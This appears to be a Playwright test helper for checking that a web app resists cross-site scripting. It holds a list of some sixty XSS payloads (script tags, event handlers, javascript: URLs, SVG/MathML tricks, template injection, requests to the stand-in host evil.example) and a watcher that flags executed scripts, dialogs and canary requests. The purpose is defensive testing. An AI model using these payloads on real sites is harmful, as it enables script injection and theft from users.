// What somebody writes who would rather run a script than get an answer, and the eye that notices when
// one ran: a function only the browser knows, dialogs, markup that came alive, and foreign requests.
import type { BrowserContext } from "@playwright/test";
import { expect } from "@playwright/test";

/** A host that is nobody's; a request to it is a leak. */
export const CANARY_HOST = "evil.example";

const RUN = "caught(1)";
/** Of these a page without protection runs most, or draws what is in them. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=//${CANARY_HOST}/x.js></script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<img data-canary src=x onerror=${RUN}>`,
  `<img data-canary src="x" onerror="${RUN}">`,
  `"><img data-canary src=x onerror=${RUN}>`,
  `'><img data-canary src=x onerror=${RUN}>`,
  `--><img data-canary src=x onerror=${RUN}>`,
  `</title><img data-canary src=x onerror=${RUN}>`,
  `</textarea><img data-canary src=x onerror=${RUN}>`,
  `</style><img data-canary src=x onerror=${RUN}>`,
  `</template><img data-canary src=x onerror=${RUN}>`,
  `]]><img data-canary src=x onerror=${RUN}>`,
  `<img data-canary src=//${CANARY_HOST}/pixel.png>`,
  `<svg data-canary onload=${RUN}></svg>`,
  `<svg data-canary/onload=${RUN}//`,
  `<svg data-canary><script>${RUN}</script></svg>`,
  `<svg data-canary><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg data-canary><a xlink:href="javascript:${RUN}"><text y=20>tap</text></a></svg>`,
  `<math data-canary><mtext><table><mglyph><style><img src onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<iframe data-canary srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe data-canary src="javascript:parent.${RUN}"></iframe>`,
  `<iframe data-canary src=//${CANARY_HOST}/></iframe>`,
  `<object data-canary data="javascript:${RUN}"></object>`,
  `<embed data-canary src=//${CANARY_HOST}/x.swf>`,
  `<video data-canary><source onerror=${RUN}></video>`,
  `<video data-canary src=x onerror=${RUN}></video>`,
  `<audio data-canary src=x onerror=${RUN}></audio>`,
  `<input data-canary autofocus onfocus=${RUN}>`,
  `<textarea data-canary autofocus onfocus=${RUN}></textarea>`,
  `<select data-canary autofocus onfocus=${RUN}></select>`,
  `<details data-canary open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<marquee data-canary onstart=${RUN}>x</marquee>`,
  `<form data-canary action="javascript:${RUN}"><button>tap</button></form>`,
  `<a data-canary href="javascript:${RUN}">tap</a>`,
  `<a data-canary href="data:text/html,<script>opener.${RUN}</script>">tap</a>`,
  `<base data-canary href=//${CANARY_HOST}/>`,
  `<link data-canary rel=stylesheet href=//${CANARY_HOST}/x.css>`,
  `<style data-canary>@import url(//${CANARY_HOST}/x.css);</style>`,
  `<style data-canary>*{background:url(//${CANARY_HOST}/css)}</style>`,
  `<div data-canary style="background:url(//${CANARY_HOST}/bg);position:fixed;inset:0">`,
  `<meta data-canary http-equiv=refresh content="0;url=//${CANARY_HOST}/">`,
  `<p data-canary contenteditable autofocus onfocus=${RUN}>x</p>`,
  `<xss data-canary id=x tabindex=1 onfocus=${RUN}></xss>`,
  `<img data-canary src=x:x onerror&equals;${RUN}>`,
  `<noscript><p title="</noscript><img data-canary src=x onerror=${RUN}>">`,
  `&lt;img data-canary src=x onerror=${RUN}&gt;`,
  `\u003cimg data-canary src=x onerror=${RUN}\u003e`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{@html "<img data-canary src=x onerror=${RUN}>"}`,
  `javascript:${RUN}//`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `[tap](javascript:${RUN})`,
  `![x](https://${CANARY_HOST}/md.png)`,
  `https://${CANARY_HOST}/"onmouseover="${RUN}`,
  `https://${CANARY_HOST}/<img data-canary src=x onerror=${RUN}>`,
  `"-${RUN}-"`,
  `';${RUN};//`,
  `\\';${RUN};//`,
  `__proto__[caught]=1`,
];

/** Several in one text each, for where there is no room for all of them one by one. */
export const TOGETHER: readonly string[] = Array.from({ length: Math.ceil(PAYLOADS.length / 6) }, (_, place) => PAYLOADS.slice(place * 6, place * 6 + 6).join("\n"));

/** Short ones on one line, for names. */
export const NAMES: readonly string[] = PAYLOADS.filter((text) => text.length < 90 && !text.includes("\n"));

/** Watches every page of a context, from before its first script on. */
export class Eye {
  readonly seen: string[] = [];

  async follow(context: BrowserContext): Promise<void> {
    await context.exposeBinding("caught", ({ frame }, what: unknown) => void this.seen.push(`a script ran at ${frame.url()}: ${String(what)}`));
    context.on("dialog", async (dialog) => {
      this.seen.push(`a dialog: ${dialog.message()}`);
      await dialog.dismiss().catch(() => undefined);
    });
    context.on("request", (request) => {
      if (new URL(request.url()).hostname === CANARY_HOST) this.seen.push(`asked for ${request.url()}`);
    });
    await context.addInitScript(() => {
      const tell = (what: string) => (globalThis as unknown as { caught: (what: string) => void }).caught(what);
      const judge = (element: Element) => {
        if (element.hasAttribute("data-canary")) tell(`markup came alive: ${element.outerHTML.slice(0, 120)}`);
        for (const { name, value } of element.attributes) {
          if (name.startsWith("on")) tell(`a handler in markup: ${name}=${value}`);
          if (/^(href|src|action|formaction|data|xlink:href)$/.test(name) && /^\s*(java\s*script|vbscript|data:text)/i.test(value)) tell(`a script as an address: ${value}`);
        }
      };
      new MutationObserver((changes) => {
        for (const { target, addedNodes } of changes) {
          if (target instanceof Element) judge(target);
          for (const node of addedNodes) {
            if (!(node instanceof Element)) continue;
            judge(node);
            node.querySelectorAll("*").forEach(judge);
          }
        }
      }).observe(document, { subtree: true, childList: true, attributes: true });
    });
  }

  check(): void {
    expect(this.seen, "what a hostile text did").toEqual([]);
  }
}
